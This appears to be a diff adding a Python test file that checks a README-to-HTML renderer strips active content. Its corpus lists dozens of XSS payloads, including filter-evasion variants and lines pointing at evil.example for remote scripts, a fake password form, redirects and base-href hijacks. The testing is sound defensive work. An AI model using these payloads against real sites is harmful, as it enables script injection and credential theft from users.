@@ -1,0 +1,125 @@
+"""README text as HTML: it keeps its structure, and can do nothing (T81)."""
+
+import re
+from time import process_time
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from corral.edges.markdown import MAX_RENDERED, render_readme
+
+#: Ways to run something, as markdown, as HTML, and as both at once.
+CORPUS = (
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="&#106;avascript:alert(1)">x</a>',
+    '<a href="java\tscript:alert(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<a href="vbscript:x">x</a>',
+    '<a href="/" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
+    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    '<base href="https://evil.example/">',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    "<style>*{display:none}</style>",
+    '<div id="said" class="hidden">x</div>',
+    "<template><script>alert(1)</script></template>",
+    '<p title="</p><script>alert(1)</script>">x</p>',
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](<javascript:alert(1)>)",
+    '[x](https://a.example "onmouseover=alert(1)")',
+    '[x](https://a.example"onmouseover="alert(1))',
+    "![x](javascript:alert(1))",
+    '![x"onerror="alert(1)](https://a.example/x.png)',
+    "![x](https://a.example/x.png)",
+    "<javascript:alert(1)>",
+    "[ref]\n\n[ref]: javascript:alert(1)",
+    "```html\n</code></pre><script>alert(1)</script>\n```",
+    '```"onload=alert(1)\nx\n```',
+    "`<script>alert(1)</script>`",
+    "| a |\n|-|\n| <script>alert(1)</script> |",
+    "<!-- --><script>alert(1)</script><!-- -->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "</div></main><script>alert(1)</script>",
+)
+_TAG = re.compile(r"<([a-zA-Z!/?][^>\s]*)((?:\s[^>]*)?)>")
+_HARMLESS = frozenset(
+    "a abbr blockquote br code dd del details dl dt em h3 h4 h5 h6 hr i b kbd li ol p pre s samp strong sub summary sup".split()  # noqa: SIM905 - easier to read than a list of quoted words
+) | frozenset("table tbody td tfoot th thead tr u ul var".split())  # noqa: SIM905
+_ATTRIBUTES = re.compile(r'\s(?:href="(?:https?:|mailto:|[/#?]|[^":]*")|rel="noopener nofollow"|title="|start="|colspan=")')
+
+
+def check_harmless(html: str) -> None:
+    """Only tags of text, and on them only the few attributes that do nothing."""
+    for name, attributes in _TAG.findall(html):
+        assert name.strip("/") in _HARMLESS, html
+        for attribute in re.findall(r'\s[a-z-]+="[^"]*"', attributes):
+            assert _ATTRIBUTES.match(attribute), html
+
+
+@pytest.mark.parametrize("attack", CORPUS)
+def test_t81_attack_in_a_readme_is_text_or_nothing(attack: str) -> None:
+    check_harmless(render_readme(attack))
+    check_harmless(render_readme(f"before {attack} after\n\n> {attack}\n\n- {attack}\n"))
+
+
+@given(st.text(alphabet="<>/\"'= \n`*_[]()!#&;:abhefrscipt-|", max_size=80))
+def test_t81_any_text_is_harmless(text: str) -> None:
+    check_harmless(render_readme(text))
+
+
+def test_structure_of_a_readme_is_kept() -> None:
+    html = render_readme("# A\n\n## B\n\n###### C\n\n- x\n- y\n\n| a |\n|-|\n| b |\n\n```py\nx<1\n```\n\n~~gone~~ **b** *i* `c`")
+    for piece in (
+        "<h3>A</h3>",
+        "<h4>B</h4>",
+        "<h6>C</h6>",
+        "<li>x</li>",
+        "<td>b</td>",
+        "<pre><code>x&lt;1",
+        "<s>gone</s>",
+        "<em>i</em>",
+    ):
+        assert piece in html
+
+
+def test_links_lead_away_without_taking_anything_along() -> None:
+    assert render_readme("[a](https://a.example)").strip() == '<p><a href="https://a.example" rel="noopener nofollow">a</a></p>'
+
+
+@pytest.mark.parametrize(
+    ("text", "html"),
+    [
+        ("![loss](https://a.example/x.png)", '<a href="https://a.example/x.png" rel="noopener nofollow">loss</a>'),
+        ("![](https://a.example/x.png)", '<a href="https://a.example/x.png" rel="noopener nofollow">picture</a>'),
+        ("[![ci](https://a.example/x.png)](https://b.example)", '<a href="https://b.example" rel="noopener nofollow">ci</a>'),
+        ('<img src="https://a.example/x.png" alt="x">', ""),
+    ],
+)
+def test_t81_picture_is_a_link_to_it_and_never_loaded(text: str, html: str) -> None:
+    assert render_readme(text).strip().removeprefix("<p>").removesuffix("</p>") == html
+
+
+def test_end_of_a_very_long_readme_is_not_shown() -> None:
+    assert "the end" not in render_readme("word " * (MAX_RENDERED // 5) + "the end")
+
+
+@pytest.mark.parametrize("piece", ["![", "[a](", "*a ", "<", "- ", "|a", "`", "> "])
+def test_t81_readme_made_to_be_slow_is_bounded(piece: str) -> None:
+    started = process_time()
+    render_readme(piece * 80_000)
+    assert process_time() - started < 10
